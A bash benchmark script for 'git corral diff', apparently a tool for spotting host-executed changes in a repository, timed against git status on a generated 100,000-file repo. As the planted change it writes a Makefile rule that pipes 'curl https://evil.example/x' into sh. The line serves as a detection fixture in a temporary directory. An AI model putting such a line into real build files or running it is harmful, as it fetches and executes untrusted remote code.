#!/usr/bin/env bash
# Benchmark git corral diff against git status --porcelain on the same tree (docs/benchmarks-history.md
# "## diff"): a generated repository of N files (default 100,000) with one host-executed change,
# timed side by side with hyperfine (medians), then max RSS with a 2 GB sparse file in the tree.
#
#   bench/diff/run.sh [WORKDIR]        (WORKDIR defaults to a new directory under /tmp)
#   FILES=100000 RUNS=10 bench/diff/run.sh
set -euo pipefail
cd "$(dirname "$0")/../.."
FILES=${FILES:-100000}
RUNS=${RUNS:-10}
WORK=${1:-$(mktemp -d /tmp/corral-diff-bench.XXXXXX)}
BIN=$WORK/git-corral
REPO=$WORK/repo
go build -o "$BIN" ./cmd/git-corral # before HOME moves, so the module cache stays where it is

export HOME=$WORK/home CORRAL_HOME=$WORK/corral GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=$WORK/home/gitconfig
export GIT_AUTHOR_NAME=bench GIT_AUTHOR_EMAIL=bench@example.com GIT_COMMITTER_NAME=bench GIT_COMMITTER_EMAIL=bench@example.com
mkdir -p "$HOME" "$REPO"
export PATH=$WORK:$PATH # git finds git-corral as a subcommand

if [ ! -d "$REPO/.git" ]; then
echo "generating $FILES files in $REPO"
( cd "$REPO" && git init -q && python3 - "$FILES" <<'PY'
import os, sys
n = int(sys.argv[1])
for i in range(n):
    d = "src/m%03d/p%02d" % (i // 1000, (i // 100) % 10)
    if i % 100 == 0:
        os.makedirs(d, exist_ok=True)
    with open("%s/f%06d.go" % (d, i), "w") as f:
        f.write("package p\n\n// file %d\nfunc F%d() int { return %d }\n" % (i, i, i))
with open("Makefile", "w") as f:
    f.write("all:\n\tgo build ./...\n")
PY
  git add -A && git -c gc.auto=0 commit -q -m decoys && git gc -q )
fi
# A re-run reuses the repository: put the tree back as committed before recording the base.
rm -f "$REPO/big.bin"
printf 'all:\n\tgo build ./...\n' > "$REPO/Makefile"
sleep 3 # files older than the racy window, as at any real session start
( cd "$REPO" && git corral diff --record )

echo "one host-executed change"
printf 'all:\n\tcurl https://evil.example/x | sh\n' > "$REPO/Makefile"
( cd "$REPO" && git status --porcelain && git corral diff --exit-code | head -12 ) || true

echo "timing (hyperfine, $RUNS runs after 3 warm-ups)"
hyperfine -N --warmup 3 --runs "$RUNS" --export-json "$WORK/hyperfine.json" \
  --command-name 'git status --porcelain' "git -C $REPO status --porcelain" \
  --command-name 'git corral diff' "$BIN -C $REPO diff"
python3 - "$WORK/hyperfine.json" "$RUNS" "$FILES" <<'PY'
import json, sys
rs = json.load(open(sys.argv[1]))["results"]
for r in rs:
    print("%-24s median %.3f s  (min %.3f, max %.3f)" % (r["command"], r["median"], r["min"], r["max"]))
print("ratio diff/status (medians): %.2f" % (rs[1]["median"] / rs[0]["median"]))
# The common result line (bench/result.sh); the claim of docs/benchmarks-history.md "## diff": at most 2x git status.
print("\t".join(["bench-row", "diff", "git corral diff, %s files, one change" % sys.argv[3], "git corral diff",
                 "%.0f" % (rs[1]["median"] * 1000), "git status --porcelain", "git status --porcelain",
                 "%.0f" % (rs[0]["median"] * 1000), "ms", sys.argv[2], "-", "ratio<=2"]))
PY

echo "memory: a 2 GB sparse file added after the base (hashed by streaming)"
truncate -s 2G "$REPO/big.bin"
/usr/bin/time -f 'git corral diff: max RSS %M KiB, %e s' "$BIN" -C "$REPO" diff >/dev/null
/usr/bin/time -f 'git corral diff --record: max RSS %M KiB, %e s' "$BIN" -C "$REPO" diff --record >/dev/null
/usr/bin/time -f 'git status --porcelain: max RSS %M KiB, %e s' git -C "$REPO" status --porcelain >/dev/null
echo "work dir: $WORK (remove it when done)"
